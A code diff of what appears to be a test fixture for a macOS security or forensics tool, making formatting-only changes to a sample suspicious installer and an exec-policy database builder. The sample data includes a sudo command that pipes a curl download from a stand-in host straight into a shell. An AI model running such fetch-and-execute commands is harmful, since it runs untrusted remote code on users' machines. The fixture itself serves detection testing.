@@ -20,7 +20,7 @@ export const MAC_SAMPLE = {
   installerApp: '/Users/alex/Downloads/UpdaterSetup.app',
   installerSigningId: 'UpdaterSetup-5555494490c3b1a8f2e4d6c8b0a2e4f6c8d0b2a4',
   /** A failed sudo in the unified log whose command fetches a script from the domain. */
-  sudoCommand: "/bin/sh -c curl -fsSL https://update-check.example.net/i.sh | sh",
+  sudoCommand: '/bin/sh -c curl -fsSL https://update-check.example.net/i.sh | sh',
 } as const;
 
 export const EXAMPLE_MAC_BUNDLE_ID = 'bundle--6a3c1d2e-0000-4000-8000-00000000c0de';
@@ -198,11 +198,10 @@ export async function execPolicyDatabase(rows: {
       [p.url, p.bundleId ?? null, p.cdhash ?? null, p.teamId ?? null, p.signingId ?? null, unix(p.at)],
     );
   for (const t of rows.scanTargets ?? [])
-    db.run('INSERT INTO scan_targets_v2 (path, responsible_path, is_library, is_used, timestamp) VALUES (?, ?, 0, 1, ?)', [
-      t.path,
-      t.responsible ?? null,
-      unix(t.at),
-    ]);
+    db.run(
+      'INSERT INTO scan_targets_v2 (path, responsible_path, is_library, is_used, timestamp) VALUES (?, ?, 0, 1, ?)',
+      [t.path, t.responsible ?? null, unix(t.at)],
+    );
   const bytes = Buffer.from(db.export());
   db.close();
   return bytes;
